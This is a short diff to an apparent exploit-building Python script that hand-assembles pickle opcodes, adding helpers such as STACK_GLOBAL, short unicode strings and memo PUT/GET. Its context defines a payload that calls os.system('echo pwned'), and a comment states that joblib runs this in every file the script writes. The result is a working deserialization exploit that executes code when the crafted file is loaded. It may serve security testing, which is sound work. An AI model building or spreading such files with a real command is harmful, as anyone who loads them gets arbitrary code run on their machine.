@@ -8,6 +8,11 @@ def G(m,n): return b'c'+m.encode()+b'\n'+n.encode()+b'\n'
 def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
 def BINSTR_HDR(n): return b'T'+struct.pack('<i',n)
 def I(n): return b'J'+struct.pack('<i',n)
+def SU(s): b=s.encode(); return b'\x8c'+bytes([len(b)])+b
+def SG(m,n): return U(m)+U(n)+b'\x93'
+def K(n): return b'K'+bytes([n])
+def PUT(i): return b'q'+bytes([i])
+def GET(i): return b'h'+bytes([i])
 # os.system("echo pwned"): what joblib runs in every file here.
 PAYLOAD = G('os','system')+U('echo pwned')+b'\x85R'
 def dtype(code):  # numpy.dtype(code, False, True)
